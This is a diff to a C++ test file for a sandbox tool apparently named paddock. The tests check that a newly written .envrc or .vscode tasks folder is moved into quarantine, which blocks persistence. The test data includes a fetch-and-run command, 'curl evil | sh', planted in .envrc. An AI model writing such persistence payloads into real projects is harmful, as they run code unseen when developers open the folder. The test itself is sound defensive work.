@@ -263,21 +263,22 @@ TEST(Escape, PersistenceEnvrcExisting) {
   EXPECT_EQ(read_file(w.project + "/.envrc"), "export A=1\n");
 }
 
-TEST(Escape, PersistenceNewEnvrcWarns) {
+TEST(Escape, PersistenceNewProtectedFileMovedAside) {
   KTEST_REQUIRE_BINARIES();
   World w;
   auto p = w.probe_run({"write", w.project + "/.envrc", "curl evil | sh\n"});
-  // Creating it is allowed (the path did not exist), but the run must say so.
+  // Creating it is allowed (the path did not exist), but it does not stay where direnv finds it,
+  // and the run says where it went.
   bool warned = false;
   for (const auto& l : split_lines(p.err))
-    if (l.rfind("[paddock]", 0) == 0 && contains(l, ".envrc")) warned = true;
+    if (l.rfind("[paddock]", 0) == 0 && contains(l, w.project + "/.envrc")) warned = true;
   EXPECT_TRUE(warned) << describe(p);
-  // Same for a new VS Code tasks file.
+  EXPECT_FALSE(exists(w.project + "/.envrc")) << describe(p);
+  EXPECT_EQ(read_file(w.project + "/.envrc.paddock-quarantine"), "curl evil | sh\n");
+  // Same for a new VS Code tasks file: the whole new .vscode goes.
   auto q = w.sh("mkdir -p .vscode && echo '{}' > .vscode/tasks.json");
-  bool warned2 = false;
-  for (const auto& l : split_lines(q.err))
-    if (l.rfind("[paddock]", 0) == 0 && contains(l, "tasks.json")) warned2 = true;
-  EXPECT_TRUE(warned2) << describe(q);
+  EXPECT_TRUE(contains(q.err, "moved aside to " + w.project + "/.vscode.paddock-quarantine")) << describe(q);
+  EXPECT_FALSE(exists(w.project + "/.vscode")) << describe(q);
 }
 
 }  // namespace
